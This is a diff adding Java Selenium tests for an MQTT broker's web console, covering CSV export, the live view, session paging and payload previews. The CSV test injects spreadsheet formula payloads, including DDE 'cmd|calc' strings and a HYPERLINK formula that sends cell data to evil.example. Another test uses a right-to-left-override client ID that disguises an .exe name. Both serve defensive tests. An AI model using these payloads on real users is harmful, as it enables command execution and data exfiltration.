@@ -13,6 +13,7 @@ import org.eclipse.paho.mqttv5.client.persist.MemoryPersistence;
 import org.eclipse.paho.mqttv5.common.MqttMessage;
 import org.junit.jupiter.api.AfterAll;
 import org.junit.jupiter.api.BeforeAll;
+import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.extension.ExtendWith;
 import org.openqa.selenium.By;
@@ -27,8 +28,10 @@ import org.openqa.selenium.logging.LogEntry;
 import org.openqa.selenium.logging.LogType;
 import org.openqa.selenium.logging.LoggingPreferences;
 
+import java.io.ByteArrayOutputStream;
 import java.io.IOException;
 import java.io.InputStream;
+import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -84,6 +87,15 @@ class ConsoleBrowserTest {
                 .usingAnyFreePort().build();
         browser = new ChromeDriver(service, options);
         browser.manage().timeouts().implicitlyWait(Duration.ZERO);
+    }
+
+    /** Each test answers for its own console errors: drop those of the tests before it. */
+    @BeforeEach
+    void forgetEarlierConsoleErrors() {
+        if (browser != null) {
+            collectConsoleErrors();
+        }
+        consoleErrors.clear();
     }
 
     @AfterAll
@@ -304,6 +316,276 @@ class ConsoleBrowserTest {
         consoleErrors.removeIf(message -> message.contains("/api/v1/devices/read-only-view") && message.contains("403"));
         signOut();
         assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    @Test
+    void csvExportNeutralizesCellsThatSpreadsheetsWouldEvaluate() throws Exception {
+        createDevice("csv-probe", "csv-pw", "#");
+        MqttClient device = connectDevice("csv-probe", "csv-pw");
+        try {
+            publish(device, "=cmd|calc/A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+            publish(device, "csv/probe", "@SUM(1+1)*cmd|\" /C calc\"!A0");
+        } finally {
+            device.disconnect();
+            device.close();
+        }
+        browser.manage().window().setSize(new Dimension(1280, 900));
+        signIn("console-admin-token");
+        go("messages");
+        waitFor(By.id("msg-client")).sendKeys("csv-probe");
+        await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
+            browser.findElement(By.id("msg-search")).click();
+            assertThat(browser.findElement(By.id("message-list")).getText()).contains("=cmd|calc/A0").contains("@SUM");
+        });
+        // The page builds the file as a Blob: keep it to read it back.
+        js().executeScript("window.exported = [];"
+                + "const create = URL.createObjectURL.bind(URL);"
+                + "URL.createObjectURL = (blob) => { window.exported.push(blob); return create(blob); };");
+        browser.findElement(By.id("export-csv")).click();
+        await().atMost(WAIT).until(() -> ((Number) js().executeScript("return window.exported.length")).intValue() == 1);
+        String csv = (String) js().executeAsyncScript(
+                "const done = arguments[arguments.length - 1]; window.exported[0].text().then(done);");
+        assertThat(csv).contains("\"'=cmd|calc/A0\"", "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"",
+                "\"'@SUM(1+1)*cmd|\"\" /C calc\"\"!A0\"", "\"csv/probe\"");
+        assertThat(csv.split("\r\n")).allSatisfy(line -> assertThat(line).doesNotContain(",\"=", ",\"@", ",\"+", ",\"-"));
+        signOut();
+        collectConsoleErrors();
+        assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    @Test
+    void liveViewKeepsOneConnectionWhenSubscribeIsClickedTwiceAndStopEndsIt() throws Exception {
+        createDevice("live-probe", "live-pw", "live/#");
+        MqttClient device = connectDevice("live-probe", "live-pw");
+        try {
+            browser.manage().window().setSize(new Dimension(1280, 900));
+            signIn("console-admin-token");
+            go("live");
+            WebElement liveFilter = waitFor(By.id("live-filter"));
+            liveFilter.clear();
+            liveFilter.sendKeys("live/#");
+            // Subscribe, then Stop at once: the connect in flight is cancelled.
+            js().executeScript("document.getElementById('live-subscribe').click();"
+                    + "document.getElementById('live-stop').click();");
+            await().pollDelay(Duration.ofSeconds(2)).atMost(WAIT).until(() -> consoleClients() == 0);
+            assertThat(browser.findElement(By.id("live-state")).getText()).isEqualTo("not connected");
+
+            // Subscribe twice in a row: one connection, each message shown once.
+            js().executeScript("const b = document.getElementById('live-subscribe'); b.click(); b.click();");
+            waitForText(By.id("live-state"), "connected · live/#");
+            publish(device, "live/probe/1", "first");
+            waitForText(By.id("live-messages"), "first");
+            Thread.sleep(1000);
+            assertThat(browser.findElements(By.cssSelector("#live-messages li"))).hasSize(1);
+            assertThat(consoleClients()).isEqualTo(1);
+
+            // Stop: the connection ends and nothing more arrives.
+            browser.findElement(By.id("live-stop")).click();
+            await().atMost(WAIT).until(() -> consoleClients() == 0);
+            publish(device, "live/probe/2", "second");
+            Thread.sleep(1000);
+            assertThat(browser.findElement(By.id("live-messages")).getText()).doesNotContain("second");
+            assertThat(browser.findElement(By.id("live-state")).getText()).isEqualTo("not connected");
+        } finally {
+            device.disconnect();
+            device.close();
+        }
+        signOut();
+        collectConsoleErrors();
+        assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    @Test
+    void everyConnectedClientIsCountedAndCanBeReachedPastTheFirstThousand() throws Exception {
+        List<Socket> fleet = new ArrayList<>();
+        try {
+            int port = mqttPort();
+            for (int i = 0; i < FLEET_SIZE; i++) {
+                fleet.add(connectAnonymously(port, String.format("fleet-%04d", i)));
+            }
+            // Connected last, so listed first: a client id with a right-to-left override in it.
+            fleet.add(connectAnonymously(port, SPOOFING_CLIENT_ID));
+            await().atMost(Duration.ofSeconds(60)).until(() -> connectedInHistory() >= FLEET_SIZE + 1);
+            browser.manage().window().setSize(new Dimension(1280, 900));
+            signIn("console-admin-token");
+
+            go("overview");
+            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> assertThat(Integer.parseInt(
+                    browser.findElement(By.cssSelector("[data-testid='card-0'] .value")).getText().replaceAll("[^0-9]", "")))
+                    .isGreaterThanOrEqualTo(FLEET_SIZE));
+
+            // The first client to connect is the last one listed (newest first): page to it and disconnect it.
+            go("sessions");
+            waitFor(By.cssSelector("tr[data-client]"));
+            // The override is shown as an escape inside an isolated <bdi>, so it flips nothing.
+            await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> assertThat(js().executeScript(
+                    "const row = [...document.querySelectorAll('tr[data-client]')].find((r) => r.dataset.client === arguments[0]);"
+                    + "const cell = row.querySelector('.client-id bdi');"
+                    + "return cell.textContent + '|' + getComputedStyle(cell).unicodeBidi;", SPOOFING_CLIENT_ID))
+                    .isEqualTo("fleet-rtl\\u202Egpj.exe|isolate"));
+            await().atMost(Duration.ofSeconds(60)).ignoreExceptions().until(() -> {
+                if (!browser.findElements(By.cssSelector("tr[data-client='fleet-0000']")).isEmpty()) {
+                    return true;
+                }
+                String firstRow = browser.findElement(By.cssSelector("tr[data-client]")).getAttribute("data-client");
+                browser.findElement(By.id("connected-next")).click();
+                await().atMost(WAIT).until(() -> !firstRow.equals(
+                        browser.findElement(By.cssSelector("tr[data-client]")).getAttribute("data-client")));
+                return false;
+            });
+            browser.findElement(By.cssSelector("tr[data-client='fleet-0000'] button[data-action='disconnect']")).click();
+            waitFor(By.cssSelector("dialog.modal button.danger")).click();
+            Socket first = fleet.get(0);
+            first.setSoTimeout((int) WAIT.toMillis());
+            assertThat(first.getInputStream().read()).as("the broker closed fleet-0000's connection").isEqualTo(-1);
+        } finally {
+            for (Socket socket : fleet) {
+                socket.close();
+            }
+        }
+        signOut();
+        collectConsoleErrors();
+        assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    @Test
+    void aDevicePageAndAnInvalidAddressRenderCleanly() throws Exception {
+        createDevice("page-probe", "page-pw", "page/#");
+        browser.manage().window().setSize(new Dimension(1280, 900));
+        // Signing in renders the page once (it used to render it twice).
+        browser.get(base() + "/");
+        js().executeScript("sessionStorage.clear()");
+        browser.get(base() + "/");
+        waitFor(By.id("token")).sendKeys("console-reader-token");
+        js().executeScript("window.shells = 0;"
+                + "new MutationObserver((changes) => changes.forEach((c) => c.addedNodes.forEach((n) => {"
+                + "  if (n.classList && n.classList.contains('layout')) window.shells++; })))"
+                + ".observe(document.getElementById('app'), {childList: true});");
+        browser.findElement(By.id("signin")).click();
+        waitFor(By.id("nav-overview"));
+        Thread.sleep(500);
+        assertThat(((Number) js().executeScript("return window.shells")).intValue()).as("pages rendered").isEqualTo(1);
+
+        // A read-only operator's device page has no action bar, and no "null" in its place.
+        go("devices/page-probe");
+        waitForText(By.cssSelector("main"), "Access rules");
+        Object nullText = js().executeScript("return [...document.querySelector('main').childNodes]"
+                + ".some((n) => n.nodeType === Node.TEXT_NODE && n.data === 'null')");
+        assertThat(nullText).isEqualTo(false);
+
+        // A malformed address says so instead of throwing and leaving the previous page on screen.
+        js().executeScript("location.hash = '#/devices/%E0%A4%A'");
+        waitForText(By.cssSelector("main h1"), "Not a valid address");
+        signOut();
+        collectConsoleErrors();
+        assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    @Test
+    void largePayloadsShowTheirStartUntilAskedForAll() throws Exception {
+        createDevice("big-probe", "big-pw", "big/#");
+        MqttClient device = connectDevice("big-probe", "big-pw");
+        try {
+            device.publish("big/probe", new MqttMessage(new byte[200 * 1024]));
+        } finally {
+            device.disconnect();
+            device.close();
+        }
+        browser.manage().window().setSize(new Dimension(1280, 900));
+        signIn("console-admin-token");
+        go("messages");
+        waitFor(By.id("msg-client")).sendKeys("big-probe");
+        browser.findElement(By.cssSelector("#msg-mode option[value='hex']")).click();
+        await().atMost(WAIT).ignoreExceptions().untilAsserted(() -> {
+            browser.findElement(By.id("msg-search")).click();
+            assertThat(browser.findElement(By.cssSelector("#message-list .payload-more")).getText())
+                    .contains("first 1.0 KiB of 200.0 KiB");
+        });
+        assertThat(payloadLength()).as("characters of the hex preview").isLessThan(10_000);
+        browser.findElement(By.cssSelector("#message-list .show-all")).click();
+        await().atMost(WAIT).until(() -> payloadLength() > 200 * 1024 * 3);
+        signOut();
+        collectConsoleErrors();
+        assertThat(consoleErrors).as("browser console errors").isEmpty();
+    }
+
+    private static long payloadLength() {
+        return ((Number) js().executeScript("return document.querySelector('#message-list pre.payload').textContent.length"))
+                .longValue();
+    }
+
+    private static final int FLEET_SIZE = 1_100;
+    private static final String SPOOFING_CLIENT_ID = "fleet-rtl\u202Egpj.exe";
+
+    private static JavascriptExecutor js() {
+        return browser;
+    }
+
+    private static void createDevice(String id, String password, String topicFilter) {
+        try (Response created = APP.client().target(base() + "/api/v1/devices").request()
+                .header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token")
+                .post(Entity.json(Map.of("id", id, "password", password, "aclRules",
+                        List.of(Map.of("permission", "allow", "action", "all", "topicFilter", topicFilter)))))) {
+            assertThat(created.getStatus()).isEqualTo(201);
+        }
+    }
+
+    private static MqttClient connectDevice(String id, String password) throws Exception {
+        MqttClient client = new MqttClient("tcp://127.0.0.1:" + mqttPort(), id, new MemoryPersistence());
+        MqttConnectionOptions options = new MqttConnectionOptions();
+        options.setUserName(id);
+        options.setPassword(password.getBytes(StandardCharsets.UTF_8));
+        options.setAutomaticReconnect(false);
+        client.connect(options);
+        return client;
+    }
+
+    /** The live view's own MQTT clients connected to the broker now (their user names start with console:). */
+    @SuppressWarnings("unchecked")
+    private static long consoleClients() {
+        Map<String, Object> page = APP.client().target(base() + "/api/v1/live/clients").queryParam("limit", 1000)
+                .request().header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token").get(Map.class);
+        return ((List<Map<String, Object>>) page.get("items")).stream()
+                .filter(c -> String.valueOf(c.get("username")).startsWith("console:")).count();
+    }
+
+    /** Clients the session history (PostgreSQL) holds as connected now, on all nodes. */
+    @SuppressWarnings("unchecked")
+    private static int connectedInHistory() {
+        int count = 0;
+        String cursor = null;
+        do {
+            var target = APP.client().target(base() + "/api/v1/sessions/connected").queryParam("limit", 1000);
+            if (cursor != null) {
+                target = target.queryParam("cursor", cursor);
+            }
+            Map<String, Object> page = target.request().header(HttpHeaders.AUTHORIZATION, "Bearer console-admin-token")
+                    .get(Map.class);
+            count += ((List<?>) page.get("items")).size();
+            cursor = (String) page.get("nextCursor");
+        } while (cursor != null);
+        return count;
+    }
+
+    /**
+     * A bare MQTT 3.1.1 connection without user name, clean session and no keep-alive, held open by
+     * the socket alone: a thousand of these cost a thousand sockets, not a thousand client threads.
+     */
+    private static Socket connectAnonymously(int port, String clientId) throws IOException {
+        byte[] id = clientId.getBytes(StandardCharsets.UTF_8);
+        ByteArrayOutputStream packet = new ByteArrayOutputStream();
+        packet.write(0x10);
+        packet.write(12 + id.length);
+        packet.write(new byte[] {0, 4, 'M', 'Q', 'T', 'T', 4, 0x02, 0, 0});
+        packet.write(id.length >> 8);
+        packet.write(id.length & 0xff);
+        packet.write(id);
+        Socket socket = new Socket("127.0.0.1", port);
+        socket.setSoTimeout((int) WAIT.toMillis());
+        socket.getOutputStream().write(packet.toByteArray());
+        byte[] connack = socket.getInputStream().readNBytes(4);
+        assertThat(connack).as("CONNACK accepted for " + clientId).containsExactly(new byte[] {0x20, 0x02, 0x00, 0x00});
+        return socket;
     }
 
     private static void publish(MqttClient client, String topic, String payload) throws Exception {
